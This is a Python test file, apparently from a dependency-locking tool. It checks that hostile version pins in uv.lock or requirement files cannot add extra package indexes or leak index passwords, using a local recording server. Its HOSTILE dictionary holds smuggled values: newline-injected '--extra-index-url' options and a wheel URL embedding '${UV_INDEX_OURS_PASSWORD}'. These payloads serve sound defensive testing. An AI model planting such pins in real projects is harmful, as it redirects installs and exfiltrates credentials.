"""What a repository's lock makes uv ask: uv resolves with the user's logins, outside the sandbox."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from datetime import date
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest

from trialfleet_ledger.errors import OperatorError
from trialfleet_ledger.interpreters import uv_program
from trialfleet_repository.environments.lock_requirements import read_requirements
from trialfleet_repository.environments.python_environment import uv_variables
from trialfleet_repository.trees import TreeEntry
from trialfleet_tasks.mining.python_environment import PythonEnvironments
from trialfleet_tasks.mining.python_lock import WantedLock

THEN = date(2024, 5, 20)
HOSTILE = {
    "an address with a variable": "1\nevil @ {0}/${{UV_INDEX_OURS_PASSWORD}}/evil-1-py3-none-any.whl",
    "an option": "1\n--extra-index-url {0}/theirs",
    "an option after a hash": f"1 --hash=sha256:{'0' * 64} --extra-index-url {{0}}/theirs",
    "an option after a carriage return": "1\r--extra-index-url {0}/theirs",
}


class Asked:
    """`address`: of a server; `paths`: what it was asked for. It has nothing."""

    def __init__(self, address: str, paths: list[str]) -> None:
        self.address, self.paths = address, paths


@pytest.fixture
def asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Asked]:
    paths: list[str] = []

    class Registry(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_error(404)

        def do_HEAD(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Registry) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{server.server_port}"
        monkeypatch.setenv("PIP_INDEX_URL", f"{address}/ours")
        monkeypatch.setenv("UV_INDEX_OURS_PASSWORD", "secret")
        monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv"))
        yield Asked(address, paths)
        server.shutdown()


def asks_others(asked: Asked) -> bool:
    assert asked.paths, "the server was asked"
    return any(not path.startswith("/ours/") for path in asked.paths)


@pytest.mark.parametrize("how", HOSTILE)
def test_a_lock_of_the_tree_chooses_no_index_and_gets_no_login(how: str, asked: Asked, tmp_path: Path) -> None:
    version = HOSTILE[how].format(asked.address)
    escaped = version.replace("\n", "\\n").replace("\r", "\\r")
    lock = f'[[package]]\nname = "evil"\nversion = "2"\n[[package]]\nname = "shop"\nversion = "{escaped}"\n'
    project = '[project]\nname = "mine"\ndependencies = ["evil", "shop"]\n'
    files = {"pyproject.toml": TreeEntry(project.encode()), "uv.lock": TreeEntry(lock.encode())}
    environments = PythonEnvironments(tmp_path / "locks")
    with pytest.raises(OperatorError, match="cannot be locked"):
        environments.of(files, THEN, "1", ("test_a.py",))
    assert not asks_others(asked), asked.paths
    assert environments.odd_pins == {f"uv.lock: shop {version}"}


@pytest.mark.parametrize("how", HOSTILE)
def test_control_uv_does_what_such_a_pin_says(how: str, asked: Asked, tmp_path: Path) -> None:
    constraints = tmp_path / "constraints"
    constraints.write_text(f"shop=={HOSTILE[how].format(asked.address)}\n", newline="")
    wanted = WantedLock(("evil", "shop"), (), "3.11", THEN)
    argv = (uv_program(), *wanted.arguments(constraints), "--no-build")
    subprocess.run(argv, input=wanted.text, env=uv_variables(), cwd="/", capture_output=True, check=False)
    assert asks_others(asked)
    assert any("secret" in path for path in asked.paths) == ("variable" in how)


@pytest.mark.parametrize("how", HOSTILE)
def test_a_task_files_lock_is_refused_for_the_same(how: str) -> None:
    lock = f"shop=={HOSTILE[how].format('https://theirs.invalid')}\n".encode()
    if b"\n--extra" in lock or b"\r--extra" in lock:
        assert read_requirements(lock).strip() == b"shop==1", "left out: only the user chooses the index"
        return
    with pytest.raises(OperatorError, match="is not a requirement"):
        read_requirements(lock)
